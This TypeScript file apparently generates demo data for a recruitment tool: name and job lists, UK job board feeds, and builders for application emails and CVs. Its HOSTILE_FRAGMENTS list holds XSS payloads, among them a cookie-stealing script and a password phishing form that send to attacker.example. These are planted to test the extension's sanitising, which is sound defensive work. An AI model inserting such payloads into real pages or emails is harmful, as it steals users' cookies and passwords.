/** Word lists and the demo email body of the generated data. Pure functions of their arguments. */
import { escapeHtml } from '../../shared/html';

export const FIRST_NAMES = [
	'Olivia',
	'Liam',
	'Amara',
	'Noah',
	'Sofia',
	'Mateo',
	'Aisha',
	'Kenji',
	'Priya',
	'Lukas',
	'Chloé',
	'Oluwaseun',
	'Mei',
	'Santiago',
	'Fatima',
	'Jakub',
	'Ingrid',
	'Rahul',
	'Zainab',
	'Hiroshi',
	'Emma',
	'Tomás',
	'Leila',
	'Finn',
	'Anya',
	'Diego',
	'Yasmin',
	'Niamh',
	'Kwame',
	'Elif',
	'Björn',
	'Camille',
	'Arjun',
	'Siobhán',
	'Wei',
	'Gabriela',
	'Omar',
	'Freya',
	'Dmitri',
	'Nomvula',
	'José',
	'Hannah',
	'Ravi',
	'Aoife',
	'Yusuf',
	'Maja',
	'Chen',
	'Isabella',
	'Kofi',
	'Zoë',
] as const;

export const LAST_NAMES = [
	'Smith',
	'Okafor',
	'García',
	'Nakamura',
	'Patel',
	'Müller',
	'Dubois',
	'Kowalski',
	'Nguyen',
	"O'Brien",
	'Rossi',
	'Andersson',
	'Mensah',
	'Kim',
	'Fernández',
	'Hassan',
	'Ivanova',
	'Jones',
	'Singh',
	'Van der Berg',
	'Papadopoulos',
	'Yılmaz',
	'Chowdhury',
	'MacLeod',
	'Silva',
	'Cohen',
	'Haddad',
	'Lindqvist',
	'Adeyemi',
	'Wang',
	'Murphy',
	'Novak',
	'Khan',
	'Schmidt',
	'López',
	'Takahashi',
	'Williams',
	'Nowak',
	'Sato',
	'Brown',
] as const;

export const JOB_TITLES: readonly (readonly [title: string, industry: string])[] = [
	['Software Engineer', 'IT'],
	['Senior Software Engineer', 'IT'],
	['Frontend Developer', 'IT'],
	['Data Analyst', 'IT'],
	['DevOps Engineer', 'IT'],
	['IT Support Technician', 'IT'],
	['Registered Nurse', 'Healthcare'],
	['Care Assistant', 'Healthcare'],
	['Pharmacist', 'Healthcare'],
	['Physiotherapist', 'Healthcare'],
	['Accountant', 'Finance'],
	['Payroll Administrator', 'Finance'],
	['Financial Analyst', 'Finance'],
	['Credit Controller', 'Finance'],
	['Sales Executive', 'Sales'],
	['Account Manager', 'Sales'],
	['Business Development Manager', 'Sales'],
	['Warehouse Operative', 'Logistics'],
	['HGV Driver', 'Logistics'],
	['Supply Chain Planner', 'Logistics'],
	['Chef de Partie', 'Hospitality'],
	['Restaurant Manager', 'Hospitality'],
	['Receptionist', 'Administration'],
	['Office Manager', 'Administration'],
	['Project Manager', 'Construction'],
	['Site Engineer', 'Construction'],
	['Quantity Surveyor', 'Construction'],
	['Electrician', 'Engineering'],
	['Mechanical Engineer', 'Engineering'],
	['Marketing Manager', 'Marketing'],
	['Content Writer', 'Marketing'],
	['HR Advisor', 'Human Resources'],
	['Recruitment Consultant', 'Human Resources'],
	['Primary School Teacher', 'Education'],
	['Teaching Assistant', 'Education'],
	['Customer Service Advisor', 'Customer Service'],
	['Call Centre Team Leader', 'Customer Service'],
	['Solicitor', 'Legal'],
	['Paralegal', 'Legal'],
	['Graphic Designer', 'Creative'],
];

export const UK_CITIES = [
	'London',
	'Manchester',
	'Leeds',
	'Bristol',
	'Birmingham',
	'Glasgow',
	'Edinburgh',
	'Liverpool',
	'Cardiff',
	'Sheffield',
	'Nottingham',
	'Remote',
] as const;

export const STREETS = [
	'High Street',
	'Station Road',
	'Church Lane',
	'Victoria Road',
	'Mill Lane',
	'Park Avenue',
	'Queen Street',
	'King Street',
] as const;

export const SKILLS = [
	'Communication',
	'Teamwork',
	'Excel',
	'SQL',
	'TypeScript',
	'Customer care',
	'Leadership',
	'Scheduling',
	'Negotiation',
	'Python',
	'Forklift licence',
	'Food hygiene',
] as const;

/** Job board replies for failed deliveries. */
export const DELIVERY_ERRORS = [
	'Error 401: Invalid feed credentials. Check Auth1/Auth2 of this feed.',
	'Error 422: Job description shorter than the board minimum of 250 characters.',
	'Error 429: Rate limit exceeded; retry after 60 seconds.',
	'Error 500: Job board returned an internal error (ref 7f3a9c).',
	'Rejected: salary field is mandatory for this category.',
	'Rejected: location could not be mapped to a board region.',
] as const;

/** 15 job boards: [FeedID, FeedIdentifier, FeedName, home page]. */
export const FEEDS: readonly (readonly [number, string, string, string])[] = [
	[101, 'Indeed', 'Indeed', 'https://www.indeed.co.uk'],
	[102, 'LinkedIn', 'LinkedIn Jobs', 'https://www.linkedin.com/jobs'],
	[103, 'Reed', 'Reed.co.uk', 'https://www.reed.co.uk'],
	[104, 'CVLibrary', 'CV-Library', 'https://www.cv-library.co.uk'],
	[105, 'Monster', 'Monster', 'https://www.monster.co.uk'],
	[106, 'Glassdoor', 'Glassdoor', 'https://www.glassdoor.co.uk'],
	[107, 'Jobsite', 'Jobsite', 'https://www.jobsite.co.uk'],
	[108, 'Totaljobs', 'Totaljobs', 'https://www.totaljobs.com'],
	[109, 'GuardianJobs', 'Guardian Jobs', 'https://jobs.theguardian.com'],
	[110, 'CWJobs', 'CWJobs', 'https://www.cwjobs.co.uk'],
	[111, 'Adzuna', 'Adzuna', 'https://www.adzuna.co.uk'],
	[112, 'StepStone', 'StepStone', 'https://www.stepstone.de'],
	[113, 'ZipRecruiter', 'ZipRecruiter', 'https://www.ziprecruiter.co.uk'],
	[114, 'CatererGlobal', 'Caterer.com', 'https://www.caterer.com'],
	[115, 'NHSJobs', 'NHS Jobs', 'https://www.jobs.nhs.uk'],
];

export interface Person {
	firstName: string;
	lastName: string;
	email: string;
	phone: string;
	address: string;
}

/**
 * Hostile fragments planted in some email bodies so the extension's sanitising is exercised: scripts,
 * event handlers, javascript: links, remote images, CSS url() and SVG with script.
 */
export const HOSTILE_FRAGMENTS = [
	'<script>fetch("https://attacker.example/steal?c=" + document.cookie)</script>',
	'<img src="x" onerror="alert(\'xss\')">',
	'<a href="javascript:alert(document.domain)">View my portfolio</a>',
	'<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1">',
	'<div style="background-image: url(\'https://tracker.example/bg.png\')">Kind regards</div>',
	'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="4"/></svg>',
	'<iframe src="https://attacker.example/frame"></iframe>',
	'<form action="https://attacker.example/phish"><input name="password"></form>',
] as const;

export function emailBodyHtml(person: Person, jobTitle: string, hostile: string | undefined): string {
	const name = escapeHtml(`${person.firstName} ${person.lastName}`);
	return [
		'<html><body>',
		`<p>Dear Hiring Manager,</p>`,
		`<p>I would like to apply for the <b>${escapeHtml(jobTitle)}</b> position. Please find my CV attached.</p>`,
		hostile ?? '',
		`<p>Kind regards,<br>${name}<br>${escapeHtml(person.phone)}</p>`,
		'</body></html>',
	].join('\n');
}

export function cvText(
	person: Person,
	jobTitle: string,
	skills: readonly string[],
	employer: string,
	years: number,
): string {
	return [
		`${person.firstName} ${person.lastName}`,
		`${person.email} | ${person.phone}`,
		person.address,
		'',
		'PROFILE',
		`Experienced ${jobTitle.toLowerCase()} with ${years} years in the role.`,
		'',
		'EXPERIENCE',
		`${employer} - ${jobTitle} (${2026 - years} - present)`,
		'',
		'SKILLS',
		skills.join(', '),
		'',
	].join('\n');
}
